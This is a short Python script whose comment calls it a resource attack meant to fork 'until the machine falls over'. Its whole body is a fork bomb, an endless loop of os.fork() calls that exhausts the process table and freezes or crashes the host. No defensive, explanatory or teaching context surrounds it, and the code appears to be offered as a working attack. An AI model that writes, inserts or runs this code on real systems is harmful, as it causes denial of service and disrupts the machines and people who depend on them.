# Resource attack: fork until the machine falls over.
import os

while True:
    os.fork()
